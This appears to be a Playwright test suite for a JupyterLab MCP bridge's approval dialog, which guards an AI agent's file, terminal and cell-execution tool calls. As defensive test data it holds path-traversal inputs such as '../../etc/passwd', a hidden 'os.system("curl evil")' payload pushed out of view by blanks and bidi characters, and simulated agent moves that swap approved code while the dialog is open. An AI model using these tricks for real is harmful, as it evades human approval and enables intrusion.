/**
 * Validate, then ask, then run exactly what was approved: invalid calls are
 * refused before any dialog; the dialog shows the code a call runs, the
 * canonical path and the real diff of a file, and flags characters that
 * hide things; a cell or file that changes while the dialog is open is not
 * acted on as approved. The schema's default policy (files, terminal,
 * kernel and commands ask), with execute set to ask where a test says so.
 */

import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import type { Page } from '@playwright/test';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import {
  call,
  expect,
  notebookCells,
  savedNotebook,
  setBridgeSettings,
  test,
  textOf
} from '../fixtures';
import { countDialogs, dialogsShown, writeNotebook } from '../page-helpers';

test.use({
  bridgeDefaults: {},
  // A new file is probed through the contents service (404 logged by
  // Chromium), as in approval.spec.ts.
  allowedConsoleErrors: [
    /^Failed to load resource: the server responded with a status of 404/
  ]
});

function dialogOf(page: Page) {
  return page.locator('.jp-McpBridge-approvalDialog');
}

test.afterEach(async ({ lab }) => {
  await setBridgeSettings(lab, {});
});

test('invalid calls are refused at once, before any approval dialog', async ({
  lab,
  env,
  mcp
}) => {
  writeNotebook(env, 'valid.ipynb', [
    { id: 'v0', type: 'code', source: 'x = 1' }
  ]);
  writeFileSync(join(env.rootDir, 'taken.txt'), 'taken');
  writeFileSync(join(env.rootDir, 'moving.txt'), 'moving');
  await call(mcp, 'use_notebook', { notebook_path: 'valid.ipynb' });
  await setBridgeSettings(lab, { categoryPolicy: { execute: 'ask' } });
  await countDialogs(lab);

  const cases: [string, Record<string, unknown>, RegExp][] = [
    [
      'write_file',
      { path: '../escape.txt', content: 'out' },
      /"path" may not contain "\.\."/
    ],
    [
      'write_file',
      { path: '/etc/mcp-bridge-escape.txt', content: 'out' },
      /the absolute path "\/etc\/mcp-bridge-escape\.txt" is outside it/
    ],
    [
      'write_file',
      { path: 'no/such/dir/file.txt', content: 'x' },
      /the directory of "no\/such\/dir\/file\.txt" does not exist/
    ],
    [
      'write_file',
      { path: 'taken.txt', content: 'x', overwrite: false },
      /already exists and "overwrite" is false/
    ],
    [
      'rename_file',
      { path: 'moving.txt', new_path: 'taken.txt' },
      /"new_path": "taken\.txt" already exists/
    ],
    [
      'delete_file',
      { path: 'missing.txt' },
      /nothing exists at "missing\.txt"/
    ],
    ['read_file', { path: '../../etc/passwd' }, /may not contain "\.\."/],
    ['list_files', { glob: 'a'.repeat(1001) }, /"glob": the glob is 1001/],
    [
      'change_kernel',
      { kernel_name: 'no-such-kernel' },
      /"kernel_name" "no-such-kernel" is not an available kernelspec/
    ],
    [
      'restart_notebook',
      { notebook_path: 'missing.ipynb' },
      /No notebook at "missing\.ipynb"/
    ],
    [
      'run_terminal_command',
      { terminal_name: 'no-such-terminal', command: 'ls' },
      /no terminal named "no-such-terminal"/
    ],
    [
      'execute_command',
      { command_id: 'no:such-command' },
      /is not a JupyterLab command of this page/
    ],
    [
      'execute_command',
      { command_id: 'terminal:create-new' },
      /not allowed by the "allowedCommands" setting/
    ],
    ['execute_cell', { cell_index: 9 }, /"cell_index" 9 is out of range/],
    ['execute_cell', { cell_id: 'nope' }, /No cell has id "nope"/],
    [
      'execute_cell',
      { cell_index: 0, timeout_seconds: 99999 },
      /"timeout_seconds" 99999 is above the maximum/
    ],
    ['send_input', { execution_id: 'exec-0', value: 'x' }, /No run has/]
  ];
  for (const [tool, args, pattern] of cases) {
    const started = Date.now();
    const result = await call(mcp, tool, args);
    expect(result.isError, `${tool} ${JSON.stringify(args)}`).toBe(true);
    expect(textOf(result)).toMatch(pattern);
    // No dialog waited for the user (it would hold the call 120 s).
    expect(Date.now() - started).toBeLessThan(10_000);
  }
  expect(await dialogsShown(lab)).toBe(0);
  await expect(lab.locator('.jp-McpBridge-status')).toHaveAttribute(
    'data-pending',
    '0'
  );
  expect(existsSync(join(env.rootDir, '..', 'escape.txt'))).toBe(false);
  expect(readFileSync(join(env.rootDir, 'taken.txt'), 'utf-8')).toBe('taken');
  expect(existsSync(join(env.rootDir, 'moving.txt'))).toBe(true);

  // A valid call still asks.
  const asked = call(mcp, 'write_file', { path: 'fine.txt', content: 'ok' });
  await expect(dialogOf(lab)).toBeVisible();
  expect(await dialogsShown(lab)).toBe(1);
  await dialogOf(lab).getByRole('button', { name: 'Deny' }).click();
  expect((await asked).isError).toBe(true);
});

test('a cell changed while its run waits for approval is not run as approved; asked again, the new code runs', async ({
  lab,
  env,
  mcp
}) => {
  const name = 'bound.ipynb';
  writeNotebook(env, name, [
    { id: 'b0', type: 'code', source: 'print("approved code")' },
    { id: 'b1', type: 'markdown', source: '# notes' }
  ]);
  await call(mcp, 'use_notebook', { notebook_path: name });
  const cells = await notebookCells(lab, name);
  await setBridgeSettings(lab, { categoryPolicy: { execute: 'ask' } });

  const run = call(mcp, 'execute_cell', { cell_index: 0 });
  const dialog = dialogOf(lab);
  await expect(dialog).toHaveAttribute('data-tool', 'execute_cell');
  // The dialog shows the code that will run.
  const code = dialog.locator('.jp-McpBridge-approvalCode');
  await expect(code).toHaveText('print("approved code")');
  await expect(code).toHaveAttribute('data-cell-id', 'b0');
  await expect(dialog.locator('h4').first()).toHaveText(
    `Code that runs: cell 0 (id b0) of ${name}`
  );

  // Meanwhile the agent rewrites the cell (edits are allowed).
  const swapped = await call(mcp, 'overwrite_cell_source', {
    cell_index: 0,
    cell_source: 'print("swapped code")'
  });
  expect(swapped.isError).toBeFalsy();
  await expect(cells.nth(0).locator('.cm-content')).toHaveText(
    'print("swapped code")'
  );
  await dialog.getByRole('button', { name: 'Allow once' }).click();

  const refused = await run;
  expect(refused.isError).toBe(true);
  expect(textOf(refused)).toContain(
    "changed while the user's approval dialog was open"
  );
  expect(textOf(refused)).toContain('It was not run; nothing was changed');
  expect(textOf(refused)).toContain('print("approved code")');
  expect(textOf(refused)).toContain('print("swapped code")');
  // Nothing ran: no output, no execution count, in the page and on disk.
  await expect(cells.nth(0).locator('.jp-OutputArea-output')).toHaveCount(0);
  await expect(cells.nth(0).locator('.jp-InputPrompt')).not.toContainText(
    /\[\d+\]/
  );
  const saved = await savedNotebook(lab, env, name);
  expect(saved.cells[0].outputs).toEqual([]);
  expect(saved.cells[0].execution_count ?? null).toBeNull();

  // Asked again, the dialog shows the code as it is now, and it runs.
  const again = call(mcp, 'execute_cell', { cell_index: 0 });
  await expect(dialog.locator('.jp-McpBridge-approvalCode')).toHaveText(
    'print("swapped code")'
  );
  await dialog.getByRole('button', { name: 'Allow once' }).click();
  const ran = (await again) as CallToolResult;
  expect(ran.isError).toBeFalsy();
  expect(textOf(ran)).toContain('swapped code');
  await expect(cells.nth(0).locator('.jp-OutputArea-output')).toContainText(
    'swapped code'
  );
});

test('run-all shows every code cell; a cell added while it waits is not run; execute_command of a run command shows its cells and counts as execute', async ({
  lab,
  env,
  mcp
}) => {
  const name = 'runall.ipynb';
  writeNotebook(env, name, [
    { id: 'r0', type: 'code', source: 'a = 1' },
    { id: 'r1', type: 'markdown', source: '# text' },
    { id: 'r2', type: 'code', source: 'print("second", a)' }
  ]);
  await call(mcp, 'use_notebook', { notebook_path: name });
  const cells = await notebookCells(lab, name);
  await setBridgeSettings(lab, { categoryPolicy: { execute: 'ask' } });
  const dialog = dialogOf(lab);

  const runAll = call(mcp, 'notebook_run-all-cells', {});
  await expect(dialog.locator('.jp-McpBridge-approvalCode')).toHaveText([
    'a = 1',
    'print("second", a)'
  ]);
  const inserted = await call(mcp, 'insert_cell', {
    cell_index: -1,
    cell_type: 'code',
    cell_source: 'print("slipped in")'
  });
  expect(inserted.isError).toBeFalsy();
  await dialog.getByRole('button', { name: 'Allow once' }).click();
  const refused = await runAll;
  expect(refused.isError).toBe(true);
  expect(textOf(refused)).toContain(
    'is not one of the cells whose code the user approved'
  );
  await expect(lab.locator('.jp-OutputArea-output')).toHaveCount(0);
  await call(mcp, 'delete_cell', { cell_indices: [3] });

  // execute_command of notebook:run-all-cells: commands and execute ask
  // in one dialog, which shows the cells it runs.
  const command = call(mcp, 'execute_command', {
    command_id: 'notebook:run-all-cells',
    notebook_path: name
  });
  await expect(dialog).toHaveAttribute('data-tool', 'execute_command');
  await expect(dialog.locator('.jp-McpBridge-approvalCategory')).toHaveText(
    '(category commands, execute)'
  );
  await expect(dialog.locator('.jp-McpBridge-approvalCode')).toHaveText([
    'a = 1',
    'print("second", a)'
  ]);
  await dialog.getByRole('button', { name: 'Allow once' }).click();
  const ran = await command;
  expect(ran.isError).toBeFalsy();
  await expect(cells.nth(2).locator('.jp-OutputArea-output')).toContainText(
    'second 1'
  );

  // Allowing one command for the session does not allow the others.
  const toggle = call(mcp, 'execute_command', {
    command_id: 'application:toggle-right-area'
  });
  await expect(dialog.locator('.jp-McpBridge-approvalCategory')).toHaveText(
    '(category commands)'
  );
  await dialog.getByRole('button', { name: 'Allow for this session' }).click();
  expect((await toggle).isError).toBeFalsy();
  const toggledBack = await call(mcp, 'execute_command', {
    command_id: 'application:toggle-right-area'
  });
  expect(toggledBack.isError).toBeFalsy();
  const runAgain = call(mcp, 'execute_command', {
    command_id: 'notebook:run-all-cells',
    notebook_path: name
  });
  await expect(dialog.locator('.jp-McpBridge-approvalCode')).toHaveText([
    'a = 1',
    'print("second", a)'
  ]);
  await dialog.getByRole('button', { name: 'Deny' }).click();
  expect((await runAgain).isError).toBe(true);

  // With execute denied, the default allowedCommands no longer run cells,
  // and nobody is asked.
  await setBridgeSettings(lab, { categoryPolicy: { execute: 'deny' } });
  await countDialogs(lab);
  const denied = await call(mcp, 'execute_command', {
    command_id: 'notebook:run-cell',
    notebook_path: name
  });
  expect(denied.isError).toBe(true);
  expect(textOf(denied)).toContain(
    '"categoryPolicy" denies the execute category, which this call also belongs to'
  );
  expect(await dialogsShown(lab)).toBe(0);
  const tools = (await mcp.listTools()).tools.map(tool => tool.name);
  expect(tools).toContain('execute_command');
  expect(tools).not.toContain('execute_cell');
});

test('write_file shows the canonical path and the real diff of the file it overwrites, however the path is spelled', async ({
  lab,
  env,
  mcp
}) => {
  mkdirSync(join(env.rootDir, 'src'), { recursive: true });
  const file = join(env.rootDir, 'src', 'main.py');
  writeFileSync(file, 'import sys\n\nprint("main")\n');
  const dialog = dialogOf(lab);
  for (const spelled of ['src/./main.py', 'src//main.py', './src/main.py']) {
    const pending = call(mcp, 'write_file', {
      path: spelled,
      content: 'import sys\n\nprint("replaced")\n'
    });
    await expect(dialog.locator('.jp-McpBridge-approvalTarget')).toHaveText(
      'File: src/main.py'
    );
    await expect(dialog.locator('.jp-McpBridge-approvalNote')).toHaveText(
      'src/main.py exists (3 lines): its content is replaced.'
    );
    const diff = dialog.locator('.jp-McpBridge-diff');
    await expect(diff.locator('.jp-McpBridge-diffRemoved')).toHaveText([
      '- print("main")'
    ]);
    await expect(diff.locator('.jp-McpBridge-diffAdded')).toHaveText([
      '+ print("replaced")'
    ]);
    // The argument as the agent gave it.
    expect(
      await dialog
        .locator('pre[data-argument="path"]')
        .evaluate(node => node.textContent)
    ).toBe(spelled);
    await dialog.getByRole('button', { name: 'Deny' }).click();
    expect((await pending).isError).toBe(true);
  }
  expect(readFileSync(file, 'utf-8')).toBe('import sys\n\nprint("main")\n');

  // A new file says so.
  const fresh = call(mcp, 'write_file', { path: 'src/new.py', content: 'x' });
  await expect(dialog.locator('.jp-McpBridge-approvalNote')).toHaveText(
    'src/new.py does not exist yet: it will be created.'
  );
  await expect(dialog.locator('h4')).toHaveText([
    'Change to src/new.py (new file) (−0 +1 lines)'
  ]);
  await expect(dialog.locator('.jp-McpBridge-diffRemoved')).toHaveCount(0);
  await expect(dialog.locator('.jp-McpBridge-diffAdded')).toHaveText(['+ x']);
  await dialog.getByRole('button', { name: 'Deny' }).click();
  expect((await fresh).isError).toBe(true);
});

test('a one-line change in a 2,001-line file shows that line with its context, and the rest on request; a file changed while the dialog is open is not overwritten', async ({
  lab,
  env,
  mcp
}) => {
  const file = join(env.rootDir, 'long.txt');
  const lines = Array.from({ length: 2001 }, (_, i) => `line ${i + 1}`);
  writeFileSync(file, lines.join('\n'));
  const changed = [...lines];
  changed[1000] = 'line 1001, changed by the agent';
  const dialog = dialogOf(lab);

  const pending = call(mcp, 'write_file', {
    path: 'long.txt',
    content: changed.join('\n')
  });
  const diff = dialog.locator('.jp-McpBridge-diff');
  await expect(dialog.locator('h4').first()).toHaveText(
    'Change to long.txt (−1 +1 lines)'
  );
  await expect(diff.locator('.jp-McpBridge-diffRemoved')).toHaveText([
    '- line 1001'
  ]);
  await expect(diff.locator('.jp-McpBridge-diffAdded')).toHaveText([
    '+ line 1001, changed by the agent'
  ]);
  await expect(diff.locator('.jp-McpBridge-diffContext')).toHaveText([
    '  line 998',
    '  line 999',
    '  line 1000',
    '  line 1002',
    '  line 1003',
    '  line 1004'
  ]);
  await expect(diff.locator('.jp-McpBridge-diffSkipped')).toHaveText([
    '… 997 unchanged lines',
    '… 997 unchanged lines'
  ]);
  await expect(
    diff.locator('.jp-McpBridge-diffRemoved').first()
  ).toHaveAttribute('data-line', '1001');
  await dialog.getByRole('button', { name: 'Show all 2002 lines' }).click();
  await expect(diff.locator('.jp-McpBridge-diffContext')).toHaveCount(2000);
  await expect(diff.locator('.jp-McpBridge-diffSkipped')).toHaveCount(0);

  // The user's own program changes the file while the dialog is open.
  writeFileSync(file, 'someone else wrote this\n');
  await dialog.getByRole('button', { name: 'Allow once' }).click();
  const refused = await pending;
  expect(refused.isError).toBe(true);
  expect(textOf(refused)).toContain(
    `The file "long.txt" changed while the user's approval dialog was open`
  );
  expect(readFileSync(file, 'utf-8')).toBe('someone else wrote this\n');
});

test('control, bidi, zero-width and CR characters are shown as markers and flagged, and long lines wrap', async ({
  lab,
  env,
  mcp
}) => {
  const content =
    'access = "user"\u202E # admin only \u2066\n' +
    'ok\u200B = True\r\n' +
    `print("fine")${' '.repeat(300)}; import os; os.system("curl evil")\n` +
    '\u001b[2J' +
    'x'.repeat(3000);
  const dialog = dialogOf(lab);
  const pending = call(mcp, 'write_file', { path: 'tricky.py', content });
  const warning = dialog.locator('.jp-McpBridge-approvalFlags');
  await expect(warning).toBeVisible();
  await expect(warning).toHaveAttribute(
    'data-flags',
    'bidi zero-width carriage-return blanks control'
  );
  await expect(warning).toContainText('2 × bidirectional controls');
  // A new file's content is shown once, as the added lines of its diff.
  const value = dialog.locator('.jp-McpBridge-diff');
  const markers = value.locator('.jp-McpBridge-flaggedChar');
  await expect(markers).toHaveText([
    '⟨U+202E RLO⟩',
    '⟨U+2066 LRI⟩',
    '⟨U+200B ZWSP⟩',
    '⟨U+000D CR⟩',
    '⟨300 blanks⟩',
    '⟨U+001B ESC⟩'
  ]);
  // The raw characters are not in the dialog: nothing reorders or hides text.
  const shown = (await value.evaluate(node => node.textContent)) ?? '';
  expect(shown).not.toMatch(/[\u202E\u2066\u200B\r\u001b]/);
  expect(shown).toContain('; import os; os.system("curl evil")');
  // Long lines wrap: nothing is pushed out of sight to the right.
  const box = await value.evaluate(node => ({
    whiteSpace: getComputedStyle(node).whiteSpace,
    scrollWidth: node.scrollWidth,
    clientWidth: node.clientWidth
  }));
  expect(box.whiteSpace).toBe('pre-wrap');
  expect(box.scrollWidth).toBeLessThanOrEqual(box.clientWidth);
  await dialog.getByRole('button', { name: 'Deny' }).click();
  expect((await pending).isError).toBe(true);
  expect(existsSync(join(env.rootDir, 'tricky.py'))).toBe(false);
});
